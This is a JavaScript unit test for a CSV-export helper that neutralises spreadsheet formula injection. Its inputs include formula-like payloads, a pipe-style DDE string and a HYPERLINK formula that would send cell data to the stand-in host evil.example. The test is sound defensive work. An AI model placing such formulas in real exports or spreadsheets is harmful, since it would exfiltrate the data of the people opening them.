import assert from 'node:assert/strict';
import test from 'node:test';
import { csvCell } from '../../main/resources/static/js/answer/formats.js';

test('a cell that begins like a formula is text', () => {
	for (const text of ['=1+1', '@SUM(A1)', '+A1', '-A1', '\uff1d1', '\uff20A1', '\uff0bA1', '\uff0dA1', '-2+3|x!A0']) {
		assert.equal(csvCell(text), `'${text}`);
	}
	assert.equal(csvCell('=HYPERLINK("http://evil.example/?"&A1,"x")'), '"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")"');
});

test('other cells stay as they are', () => {
	for (const text of ['', 'a', '-5', '+49 170', '-1.5%', "'", 'a=b', '1-2']) {
		assert.equal(csvCell(text), text);
	}
	assert.equal(csvCell('-1,5'), '"-1,5"');
	assert.equal(csvCell('say "x"\ny'), '"say ""x""\ny"');
});
